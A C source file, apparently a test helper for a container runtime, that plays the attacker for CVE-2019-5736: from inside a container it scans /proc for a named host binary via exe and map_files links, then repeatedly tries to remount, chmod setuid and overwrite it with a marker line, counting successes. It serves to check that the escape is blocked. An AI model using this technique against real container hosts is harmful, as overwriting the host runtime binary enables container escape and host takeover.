/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * overwrite FILE NAME: the attacker of CVE-2019-5736, as the first process of a container. Until
 * FILE appears it looks at /proc/PID/exe of every other process, and, if it may, at
 * /proc/PID/map_files, keeps those whose target contains NAME (or is the root of a mount that is
 * nowhere) by O_PATH, and tries again and again to make them writable, to change their mode, to
 * open them for writing and to write. It says "looking" at the start, "found" when it has the
 * first, and at the end "seen N mapped N opened N written N": N of exe, N of map_files.
 */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define KEPT_MAX 128

static int kept[KEPT_MAX], n_kept, mapped, opened, written;

static int
keep (const char *path, const char *name)
{
	char target[256] = "";
	int fd;

	if (n_kept == KEPT_MAX || readlink (path, target, sizeof target - 1) < 0 ||
	    (!strstr (target, name) && strcmp (target, "/") != 0))
		return 0;
	fd = open (path, O_PATH);
	if (fd < 0)
		return 0;
	if (n_kept == 0)
		printf ("found\n");
	kept[n_kept++] = fd;
	return 1;
}

static void
look_at (const char *pid, const char *name)
{
	char path[600];
	DIR *d;

	snprintf (path, sizeof path, "/proc/%s/exe", pid);
	(void) keep (path, name);
	snprintf (path, sizeof path, "/proc/%s/map_files", pid);
	d = opendir (path);
	for (struct dirent *de; d && (de = readdir (d)) != NULL;) {
		snprintf (path, sizeof path, "/proc/%s/map_files/%s", pid, de->d_name);
		mapped += keep (path, name);
	}
	if (d)
		closedir (d);
}

static void
try_all (void)
{
	for (int i = 0; i < n_kept; i++) {
		struct mount_attr rw = { .attr_clr = MOUNT_ATTR_RDONLY };
		char path[64];
		int fd;

		(void) syscall (SYS_mount_setattr, kept[i], "", AT_EMPTY_PATH, &rw, sizeof rw);
		(void) syscall (SYS_open_tree, kept[i], "", OPEN_TREE_CLONE | AT_EMPTY_PATH);
		snprintf (path, sizeof path, "/proc/self/fd/%d", kept[i]);
		(void) chmod (path, 04777);
		fd = open (path, O_WRONLY);
		if (fd < 0)
			continue;
		opened++;
		if (write (fd, "#!/overwritten\n", 15) > 0)
			written++;
		close (fd);
	}
}

int
main (int argc, char **argv)
{
	if (argc != 3)
		return 2;
	setvbuf (stdout, NULL, _IOLBF, 0);
	printf ("looking\n");
	while (access (argv[1], F_OK) < 0) {
		DIR *d = opendir ("/proc");

		for (struct dirent *de; d && (de = readdir (d)) != NULL;)
			if (isdigit ((unsigned char) de->d_name[0]) &&
			    strcmp (de->d_name, "1") != 0)
				look_at (de->d_name, argv[2]);
		if (d)
			closedir (d);
		try_all ();
	}
	try_all ();
	printf ("seen %d mapped %d opened %d written %d\n", n_kept - mapped, mapped, opened,
		written);
	return 0;
}
